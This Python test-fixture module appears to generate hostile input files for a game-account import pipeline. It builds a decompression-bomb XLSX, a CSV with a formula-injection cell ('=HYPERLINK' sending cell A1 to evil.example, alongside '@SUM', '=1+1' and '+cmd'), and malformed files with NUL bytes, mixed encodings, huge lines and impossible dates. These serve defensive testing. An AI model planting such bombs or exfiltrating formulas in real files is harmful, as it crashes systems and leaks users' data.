"""The hostile-file corpus: files an import meets from careless or malicious senders,
generated on demand (nothing large is committed). Each builder writes one file into a
directory and returns its path; `CORPUS` names them all for parametrised tests."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

from openpyxl import Workbook

HEADER = "账号,区服,昵称,手机号,注册时间,最后登录时间,生日\n"
GOOD_ROW = "p{n},s1,玩家{n},1381234{n:04d},2024-01-05 10:30:00,2026-11-20 21:05:00,1990-05-17\n"


def _xlsx_bytes(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bomb(directory: Path, *, strings: int = 6_000_000) -> Path:
    """A small XLSX whose shared-strings table inflates to `strings` entries (17 bytes
    each once decompressed): 6 million make a file of a few hundred kB holding 100 MB
    of XML, which a reader that keeps the table as Python strings turns into a GB."""
    path = directory / "zip_bomb.xlsx"
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes([["x"]])))
    sheet = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>{a}</v></c><c r="B{n}" t="s"><v>{b}</v></c></row>'
        for n, (a, b) in enumerate([(0, 1), (2, 3), (4, 3)], start=1)  # shared-string indexes
    )
    sheet_xml = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{sheet}</sheetData></worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode()
            elif item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>',
                )
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    b'sharedStrings" Target="sharedStrings.xml" Id="rId9" /></Relationships>',
                )
            target.writestr(item.filename, data)
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            out.write(b'<?xml version="1.0" encoding="UTF-8"?>\n')
            out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            out.write("<si><t>账号</t></si><si><t>昵称</t></si><si><t>b1</t></si><si><t>炸弹</t></si>".encode())
            out.write(b"<si><t>b2</t></si>")
            block = b"<si><t>a</t></si>" * 10_000
            for _ in range(strings // 10_000):
                out.write(block)
            out.write(b"</sst>")
    return path


def many_shared_strings(directory: Path, *, strings: int = 100_000) -> Path:
    """Within the limits, but a table of many short strings: read compactly, it takes
    a few bytes an entry instead of a Python object each."""
    path = zip_bomb(directory, strings=strings)
    return path.rename(directory / "many_shared_strings.xlsx")


def tall_sheet(directory: Path, *, rows: int = 100_000) -> Path:
    """A sheet of hundreds of thousands of empty row elements before its one data row:
    a reader that keeps every row element it has read grows with them."""
    path = directory / "tall_sheet.xlsx"
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes([["账号", "昵称"]])))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item.filename, source.read(item.filename))
                continue
            with target.open(item.filename, "w") as out:
                out.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                out.write('<row r="1"><c r="A1" t="inlineStr"><is><t>账号</t></is></c></row>'.encode())
                for start in range(2, rows + 2, 10_000):
                    out.write("".join(f'<row r="{n}"/>' for n in range(start, start + 10_000)).encode())
                last = rows + 2 + 10_000
                out.write(f'<row r="{last}"><c r="A{last}" t="inlineStr"><is><t>t1</t></is></c></row>'.encode())
                out.write(b"</sheetData></worksheet>")
    return path


def random_bytes(directory: Path) -> Path:
    path = directory / "random.xlsx"
    path.write_bytes(os.urandom(64 * 1024))
    return path


def nul_byte(directory: Path) -> Path:
    """Good rows around one whose nickname holds a NUL (PostgreSQL refuses it in text)."""
    path = directory / "nul.csv"
    rows = [GOOD_ROW.format(n=n) for n in range(1, 4)]
    rows[1] = rows[1].replace("玩家2", "玩\x00家2")
    path.write_text(HEADER + "".join(rows), encoding="utf-8")
    return path


def mixed_encodings(directory: Path, *, good_rows: int = 12_000) -> Path:
    """UTF-8 for the first rows (more than the encoding sample), then one GBK row."""
    path = directory / "mixed_encodings.csv"
    with path.open("wb") as handle:
        handle.write(HEADER.encode("utf-8"))
        for n in range(1, good_rows + 1):
            handle.write(GOOD_ROW.format(n=n).encode("utf-8"))
        handle.write(GOOD_ROW.format(n=good_rows + 1).replace("玩家", "王者").encode("gbk"))
    return path


def huge_line(directory: Path, *, size: int = 8 * 1024 * 1024) -> Path:
    """A header line of `size` characters and no line break."""
    path = directory / "huge_line.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("账号,")
        for _ in range(size // (1024 * 1024)):
            handle.write("x" * (1024 * 1024))
    return path


def huge_cell(directory: Path) -> Path:
    """A quoted cell spanning many lines, larger than any real cell."""
    path = directory / "huge_cell.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(HEADER)
        handle.write(GOOD_ROW.format(n=1))
        handle.write('p2,s1,"' + ("x" * 1000 + "\n") * 2000 + '",,,,\n')
    return path


def many_columns(directory: Path, *, columns: int = 10_000) -> Path:
    path = directory / "many_columns.csv"
    header = ["账号"] + [f"c{n}" for n in range(1, columns)]
    row = ["p1"] + ["v"] * (columns - 1)
    path.write_text(",".join(header) + "\n" + ",".join(row) + "\n", encoding="utf-8")
    return path


def formula_cells(directory: Path) -> Path:
    """Cells a spreadsheet would run: they are stored as text and echoed in the report
    only through the neutraliser."""
    path = directory / "formulas.csv"
    path.write_text(
        HEADER
        + 'p1,s1,"=HYPERLINK(""http://evil.example/?""&A1,""点我"")",13812340001,2024-01-05,2026-11-20,1990-05-17\n'
        + "p2,s1,@SUM(1+1),=1+1,2024-01-05,2026-11-20,1990-05-17\n"
        + "p3,s1,+cmd,-2+3,2024-01-05,2026-11-20,1990-05-17\n",
        encoding="utf-8",
    )
    return path


def impossible_dates(directory: Path) -> Path:
    path = directory / "impossible_dates.csv"
    path.write_text(
        HEADER
        + "p1,s1,甲,13812340001,2026-02-30 10:00:00,2026-11-20,1990-05-17\n"
        + "p2,s1,乙,13812340002,9999-12-31 23:59:59,9999-12-31T23:59:59+00:00,9999-12-31\n"
        + "p3,s1,丙,13812340003,1899-12-31,2026-11-20,1990-02-30\n"
        + "p4,s1,丁,13812340004,2024-01-05 10:30:00,2026-11-20 21:05:00,1990-05-17\n",
        encoding="utf-8",
    )
    return path


CORPUS = {
    "zip_bomb": zip_bomb,
    "many_shared_strings": many_shared_strings,
    "tall_sheet": tall_sheet,
    "random_bytes": random_bytes,
    "nul_byte": nul_byte,
    "mixed_encodings": mixed_encodings,
    "huge_line": huge_line,
    "huge_cell": huge_cell,
    "many_columns": many_columns,
    "formula_cells": formula_cells,
    "impossible_dates": impossible_dates,
}
